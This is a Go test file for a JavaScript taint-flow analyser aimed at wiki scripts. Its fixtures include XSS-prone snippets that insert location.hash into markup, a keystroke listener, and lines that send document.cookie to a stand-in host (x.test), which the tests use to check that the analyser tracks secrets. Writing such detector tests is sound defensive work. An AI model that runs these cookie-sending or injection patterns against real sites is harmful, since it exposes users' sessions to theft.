package flow

import (
	"strings"
	"testing"
)

func TestDataOfStrangersIsFollowed(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`var h = location.hash; sink('<b>' + h + '</b>')`, "url:all+markup"},
		{`var api = new mw.Api(); api.get({}).done(function(d){ $.each(d.query.pages, function(k, p){ sink(p.comment); }) })`, "api-text:all"},
		{`async function f(){ const d = await new mw.Api().get({}); for (const p of d.query.pages) sink(p.comment) } f()`, "api-text:all"},
		{`$.getJSON('https://x.test/a', function(d){ sink(d.name) })`, "third-party:all"},
		{`fetch('https://x.test/a').then(r=>r.json()).then(d=>sink(d.name))`, "third-party:all"},
		{`var x = new XMLHttpRequest(); x.onload = function(){ sink(JSON.parse(x.responseText).a) }; x.open('GET', 'https://x.test/')`, "third-party:all"},
		{`window.addEventListener('message', e => sink(e.data))`, "postmessage:all"},
		{`sink($('.x').data('foo').replace(/\\n/g, '<br>'))`, "page-text:all"},
		{`sink(document.getElementById('a').dataset.foo)`, "page-text:all"},
		{`sink(mw.msg('x', location.hash))`, "interface-message:all, url:all+msgparam"},
		{`module.exports = function(o){ sink('<h2>'+o.heading+'</h2>') }`, "unknown-caller:all+markup"},
		{`$.when(new mw.Api().get({}), $.getJSON('//x.test/')).then(function (a, b) { sink(b.name) })`, "third-party:all"},
		{`function f(a) { a.get({ action: 'query' }).then(d => sink(d.query.pages[0].comment)) }`, "api-text:all"},
		{`var list = []; list.push(location.hash); list.forEach(function (x) { sink(x) })`, "url:all"},
		{`const o = $.extend({}, {a: 1}, {b: location.hash}); sink(o.b)`, "url:all"},
		{`class A { constructor(x) { this.x = x } show() { sink(this.x) } } new A(location.hash).show()`, "url:all"},
		{`function A(x) { this.x = x } A.prototype.show = function () { sink(this.x) }; new A(location.hash).show()`, "url:all"},
		{`sink(decodeURIComponent(mw.html.escape(location.hash)))`, "url:all"},
		{`const {a: {b}} = JSON.parse(localStorage.getItem('x')); sink(b)`, "storage:all"},
		{`var ve_ = ve; sink(ve_.msg('x'))`, "interface-message:all"},
	} {
		expectTaint(t, c.code, c.want)
	}
}

func TestWhatIsSafeIsNotMarked(t *testing.T) {
	const noHTML = "url:url+param+js+css+selector+wikitext+regexp"
	for _, c := range []struct{ code, want string }{
		{`var h = location.hash; sink('<b>' + mw.html.escape(h) + '</b>')`, noHTML + "+markup"},
		{`var x = location.hash; x = mw.html.escape(x); sink(x)`, noHTML},
		{`sink($('<div>').text(location.hash).html())`, "url:attr+url+param+js+css+selector+wikitext+regexp"},
		{`sink(location.hash.replace(/</g, '&lt;').replace(/"/g, '&quot;'))`, noHTML},
		{`sink(location.hash.replace('<', '&lt;'))`, "url:all"},
		{`sink(location.hash.replace(/[^\w]/g, ''))`, "url:"},
		{`sink(location.hash.replace(/[^a-z]/g, ''))`, "url:"},
		{`sink(new mw.Api().parse(location.hash))`, ""},
		{`new mw.Api().get({}).done(function(d){ sink(d.query.pages[1].revisions[0].parsedcomment); })`, ""},
		{`new mw.Api().get({}).done(function(d){ sink(d.parse.text['*']); })`, ""},
		{`function id(x){return x} id(location.hash); sink(id('a'))`, ""},
		{`sink(location.hash.length)`, ""},
		{`sink({a: 1}[location.hash])`, ""},
		{`sink(mw.message('x').escaped())`, "interface-message:url+param+js+css+selector+wikitext+regexp+msgparam"},
	} {
		expectTaint(t, c.code, c.want)
	}
}

func TestThePlaceInMarkupDecides(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`sink('<a href="' + mw.config.get('wgPageName') + '">')`, "page-title:html+attr+wikitext+markup"},
		{`sink('<a>' + mw.config.get('wgPageName') + '</a>')`, "page-title:attr+param+js+selector+wikitext+regexp+markup"},
		{`sink('<a title=' + mw.html.escape(location.hash) + '>')`, "url:wikitext+markup"},
		{`sink('<a href="' + mw.html.escape(location.hash) + '">')`, "url:url+wikitext+markup"},
		{`sink('<a href="/wiki/' + mw.html.escape(location.hash) + '">')`, "url:wikitext+markup"},
		{`sink('<a href="' + encodeURIComponent(location.hash) + '">')`, "url:markup"},
		{`sink('/w/index.php?title=' + location.hash)`, "url:html+attr+param+js+css+selector+wikitext+regexp"},
	} {
		expectTaint(t, c.code, c.want)
	}
}

func TestGuardsNarrowWhatAVariableHolds(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`var x = location.hash; if (!/^[a-z]+$/.test(x)) return; sink('<b>'+x)`, "url:markup"},
		{`var x = location.hash; if (/[a-z]+/.test(x)) sink(x)`, "url:all"},
		{`var x = location.hash; if (['a', 'b'].includes(x)) sink(x)`, "url:"},
		{`var x = location.hash; if (x.includes('a')) sink(x)`, "url:all"},
		{`var x = location.hash; if (x === 'a') sink(x)`, ""},
		{`var x = location.hash; if (typeof x === 'number') sink(x)`, "url:"},
		{`var x = location.hash; if (x !== 'a' && x !== 'b') return; sink(x)`, ""},
		{`var x = location.hash; for (;;) { x = mw.html.escape(x) } sink(x)`, "url:all"},
	} {
		expectTaint(t, c.code, c.want)
	}
}

func TestSecretsStaySecretWhateverEncodesThem(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`sink('https://x.test/?' + btoa(encodeURIComponent(document.cookie)))`, "cookie:"},
		{`sink(mw.user.tokens.get('csrfToken'))`, "token:"},
		{`sink($('#wpPassword1').val())`, "password:all"},
		{`document.addEventListener('keydown', function (e) { sink(e.key) })`, "keys:"},
	} {
		expectTaint(t, c.code, c.want)
	}
	g := graph(t, `$.post('https://x.test/', { a: { b: document.cookie } }); sink(1)`)
	for _, c := range g.Calls() {
		if c.Callee != "$.post" {
			continue
		}
		if f := g.TaintDeep(c.Arg(1)); len(f) != 1 || f[0].Source != FromCookie {
			t.Errorf("inside the object there is %v", f)
		}
	}
}

func TestStepsLeadFromSourceToSink(t *testing.T) {
	g := graph(t, `function show(x) {
  sink('<b>' + x);
}
var h = location.hash;
show(h);`)
	flows := g.Taint(sink(t, g))
	if len(flows) != 1 {
		t.Fatalf("there are %d flows", len(flows))
	}
	var got []string
	for _, s := range flows[0].Steps() {
		got = append(got, g.Script().Source(s.Node)+": "+s.Message)
	}
	want := []string{"location.hash: the address is read here", "h: through the variable h", "x: it is handed to a function",
		"x: through the variable x", "'<b>' + x: it is put between literal markup"}
	if a, b := strings.Join(got, "\n"), strings.Join(want, "\n"); a != b {
		t.Errorf("got\n%s\nwant\n%s", a, b)
	}
}
